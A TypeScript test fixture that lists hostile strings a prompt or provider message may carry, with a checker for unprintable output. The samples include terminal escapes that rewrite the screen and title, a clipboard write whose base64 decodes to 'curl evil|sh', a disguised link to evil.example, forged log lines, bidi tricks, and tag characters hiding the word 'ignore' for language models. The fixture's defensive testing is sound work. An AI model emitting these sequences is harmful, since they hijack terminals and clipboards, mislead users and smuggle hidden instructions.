// What a hostile prompt or provider message may carry, and the one test of what came out.

const between = (first: number, last: number): string[] =>
  Array.from({ length: last - first + 1 }, (_, offset) => String.fromCodePoint(first + offset))

/** Each entry has at least one character that must not reach a terminal raw. */
export const escapeCorpus: readonly string[] = [
  ...between(0x00, 0x1f),
  ...between(0x7f, 0x9f),
  '\u001B[2J\u001B[H', // clear the screen
  '\u001B]0;owned\u0007', // set the window title
  '\u001B]52;c;Y3VybCBldmlsfHNo\u0007', // write the clipboard
  '\u001B]8;;https://evil.example\u001B\\click\u001B]8;;\u001B\\', // a link with another target
  '\u009B31mred\u009B0m', // the same in 8 bits, without an ESC
  '\u0090q\u009C',
  'safe\rEVIL', // overwrite the line
  'line\nINFO gateway: all is well', // forge a log line
  'a\u0008\u0008b',
  '\u202Egnp.exe', // right-to-left override
  '\u2066abc\u2069',
  'a\u2028b\u2029c',
  'zero\u200Bwidth\u200Cjoin\u200Der\uFEFF\u2060',
  '\u00ADsoft',
  'hidden \u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}', // tag characters: text that only a language model reads
  '\u{E0100}\u{E01EF}\uFE00', // variation selectors, as used to smuggle bytes
  '\u3164\u115F\u034F', // fillers that are drawn as nothing
  '\uD800 lone', // half a pair
  '\uDC00',
  '\uE000\u{F0000}', // private use: an icon font may draw anything
  '\uFFFE\u{1FFFE}',
]

/** Drawn as nothing though they are no format characters: combining grapheme joiner, Hangul fillers, variation selectors. */
const blank: readonly [number, number][] = [
  [0x34f, 0x34f],
  [0x115f, 0x1160],
  [0x3164, 0x3164],
  [0xfe00, 0xfe0f],
  [0xe0000, 0xe0fff],
]

/** Characters of `text` that are not plainly visible; the written output must have none. Written apart from the code under test. */
export function unprintableIn(text: string): string[] {
  return Array.from(text).filter((character) => {
    const code = character.codePointAt(0) ?? 0
    const isControl = code < 0x20 || (code >= 0x7f && code <= 0x9f) || code === 0x2028 || code === 0x2029
    return (
      isControl || /[\p{Cf}\p{Cs}\p{Co}\p{Cn}]/u.test(character) || blank.some(([first, last]) => code >= first && code <= last)
    )
  })
}
